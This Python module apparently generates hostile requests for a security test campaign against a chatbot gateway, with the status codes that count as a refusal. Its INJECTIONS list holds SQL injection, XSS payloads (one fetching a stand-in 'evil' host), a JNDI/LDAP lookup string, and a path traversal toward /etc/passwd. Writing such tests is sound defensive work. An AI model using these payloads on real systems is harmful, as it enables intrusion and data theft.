"""The hostile requests of the campaign, each with the answers that count as answered or refused.

Why it looks like this:
- A shot is plain data (route, kind, request, expected statuses), drawn from a table of makers
  with weights by a seeded `random.Random`, so a run can be repeated and a hole named exactly.
- Expected statuses are read off the code each route goes through (bot/webchat/app.py,
  bot/gateway/app.py, bot/channels/zalo/webhook.py, bot/desk/app.py, bot/desk/session.py): a
  status outside them is an answer the route should not give, even when it is not a 5xx.
- What the attacker knows is what an attacker could: sessions of their own (free to get), a
  button choice seen in a page they read, captured Zalo and Telegram deliveries. The Zalo key is
  used only to make "captured" events older than the window, as a replay days later would be.
- Oversized bodies come two ways: a declared Content-Length far over the cap (the body is made
  lazily and never sent whole), and a chunked stream without a length, cut off by the server.
"""

from __future__ import annotations

import json
import random
import re
import secrets
from collections.abc import Callable
from dataclasses import dataclass

from bot.plain_text import clean
from bot.rasa import as_typed
from bot.webchat.sessions import TOKEN_HEADER

HUGE = 300_000_000  # a declared length, as the 300 MB POST of issue 12
STREAMED = 2_000_000  # bytes offered in chunks, far past every cap (1 MB at most)
FORM = "application/x-www-form-urlencoded"
_TICKET = re.compile(r"/tickets/[^/]+")
INJECTIONS = (
    "'; DROP TABLE tickets; --",
    "1' OR '1'='1",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil')\">",
    "/request_human",
    '/kb_quen_mat_khau{"software": "qlvb"}',
    '  / /inform{"phone": "0912345678"}',
    "/gui_phieu",
    "quên mật khẩu\x00' OR 1=1",
    "\x00\x00\x00",
    "𝕳𝖊𝖑𝖑𝖔 " * 600,
    "ế" * 4001,
    "\u202e\u200b\ufeff lệnh ẩn",
    "\ud83d nửa cặp surrogate",
    "{{7*7}} ${jndi:ldap://evil/a}",
)


@dataclass(frozen=True)
class Shot:
    """One request: where it goes, what it tries, and which answers are a proper refusal."""

    target: str  # "gateway" or "desk"
    route: str
    kind: str
    method: str
    path: str
    expected: frozenset[int]
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes | None = None
    stream: int = 0  # bytes offered in chunks instead of `body`


@dataclass
class Known:
    """What the campaign learned before the flood: its own sessions, captured deliveries."""

    sessions: list[tuple[str, str]]  # (sender, token) the attacker opened
    victim: str  # a legitimate official's sender id
    captured_choice: str  # a button choice shown to the victim
    zalo_app_id: str
    zalo_key: str
    zalo_captured: list[tuple[bytes, str]]  # legitimate deliveries: body and signature header
    telegram_secret: str
    telegram_captured: list[bytes]
    assistant_token: str
    staff_cookie: str
    login_cookie: str
    login_csrf: str
    ticket: str


Maker = Callable[[Known, random.Random], Shot]


def route_of(method: str, path: str) -> str:
    """The route a request is counted under: no query, a ticket code as `{code}`."""
    bare = path.split("?")[0]
    return f"{method} {_TICKET.sub('/tickets/{code}', bare)}"


def as_json(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


def garbage(rng: random.Random) -> bytes:
    return rng.choice(
        [b"{", b"[1, 2", b"\xff\xfe\x00garbage", b"null", b"[]", b'"text"', b"[" * 20000]
    )


def address(rng: random.Random) -> tuple[str, str]:
    # The reverse proxy's header: uvicorn trusts it from 127.0.0.1, as behind nginx.
    return ("X-Forwarded-For", f"198.51.100.{rng.randint(1, 254)}")


def _session(k: Known, rng: random.Random) -> tuple[str, str]:
    return rng.choice(k.sessions)


def _messages(
    kind: str,
    expected: set[int],
    headers: list[tuple[str, str]],
    body: bytes | None = None,
    stream: int = 0,
) -> Shot:
    route, path = "POST /api/messages", "/api/messages"
    return Shot(
        "gateway", route, kind, "POST", path, frozenset(expected), (*headers,), body, stream
    )


def msg_no_token(k: Known, rng: random.Random) -> Shot:
    return _messages("forged", {401}, [], body=as_json({"sender": k.victim, "text": "xin chào"}))


def msg_forged_token(k: Known, rng: random.Random) -> Shot:
    token = rng.choice(["x", secrets.token_urlsafe(32), "A" * 43, "' OR 1=1 --"])
    body = as_json({"sender": rng.choice([k.victim, "web-" + secrets.token_hex(12)]), "text": "hi"})
    return _messages("forged", {403}, [(TOKEN_HEADER, token)], body=body)


def msg_other_sender(k: Known, rng: random.Random) -> Shot:
    _, token = _session(k, rng)
    return _messages(
        "forged",
        {403},
        [(TOKEN_HEADER, token)],
        body=as_json({"sender": k.victim, "text": "đọc trộm"}),
    )


def msg_malformed(k: Known, rng: random.Random) -> Shot:
    _, token = _session(k, rng)
    return _messages("malformed", {400}, [(TOKEN_HEADER, token)], body=garbage(rng))


def msg_oversized(k: Known, rng: random.Random) -> Shot:
    _, token = _session(k, rng)
    if rng.random() < 0.5:
        return _messages(
            "oversized_declared",
            {413},
            [(TOKEN_HEADER, token), ("Content-Length", str(HUGE))],
            stream=HUGE,
        )
    return _messages("oversized_streamed", {413}, [(TOKEN_HEADER, token)], stream=STREAMED)


def msg_injected(k: Known, rng: random.Random) -> Shot:
    sender, token = _session(k, rng)
    text = rng.choice(INJECTIONS)
    # Refused: a lone surrogate (no character at all), or nothing left once control characters
    # and a leading "/" are dropped, or too long.
    surrogate = any("\ud800" <= char <= "\udfff" for char in text)
    typed = as_typed(clean(text))
    refused = surrogate or not typed.strip() or len(text) > 4000
    expected = {400} if refused else {200, 429}
    # ASCII JSON: a lone surrogate travels as a valid "\ud83d" escape, as a script would send it.
    body = json.dumps({"sender": sender, "text": text}).encode()
    return _messages("injected", expected, [(TOKEN_HEADER, token), address(rng)], body=body)


def msg_replayed_choice(k: Known, rng: random.Random) -> Shot:
    sender, token = _session(k, rng)
    forged = rng.choice([k.captured_choice, "L2d1aV9waGlldQ.AAAA", "a.b.c", "." * 5000])
    kind = "replayed" if forged == k.captured_choice else "forged"
    return _messages(
        kind, {400}, [(TOKEN_HEADER, token)], body=as_json({"sender": sender, "choice": forged})
    )


def inbox(k: Known, rng: random.Random) -> Shot:
    sender, token = _session(k, rng)
    path, headers, expected, kind = rng.choice(
        [
            (f"/api/inbox?sender={k.victim}&after=0", [], {401}, "forged"),
            (f"/api/inbox?sender={k.victim}&after=0", [(TOKEN_HEADER, token)], {403}, "forged"),
            (
                "/api/inbox?sender=web-1'%20OR%201=1&after=0",
                [(TOKEN_HEADER, token)],
                {400},
                "injected",
            ),
            (f"/api/inbox?sender={sender}&after=-1%3B", [(TOKEN_HEADER, token)], {400}, "injected"),
            (
                f"/api/inbox?sender={sender}&after={'9' * 40}",
                [(TOKEN_HEADER, token)],
                {400},
                "malformed",
            ),
        ]
    )
    return Shot("gateway", "GET /api/inbox", kind, "GET", path, frozenset(expected), tuple(headers))


def session_junk(k: Known, rng: random.Random) -> Shot:
    return Shot(
        "gateway",
        "POST /api/session",
        "malformed",
        "POST",
        "/api/session",
        frozenset({200}),
        body=garbage(rng),
    )


def page_and_more(k: Known, rng: random.Random) -> Shot:
    method, path, expected, kind = rng.choice(
        [
            ("GET", "/?q=<script>alert(1)</script>", {200}, "injected"),
            ("GET", "/..%2f..%2fetc%2fpasswd", {404}, "injected"),
            ("GET", "/health", {200}, "legit_route"),
            ("GET", "/metrics", {200}, "legit_route"),
            ("POST", "/metrics", {404, 405}, "malformed"),
            ("DELETE", "/api/session", {405}, "malformed"),
        ]
    )
    route = f"{method} {path.split('?')[0]}" if path in ("/health", "/metrics") else "other"
    route = "GET /" if path.startswith("/?") else route
    return Shot("gateway", route, kind, method, path, frozenset(expected))
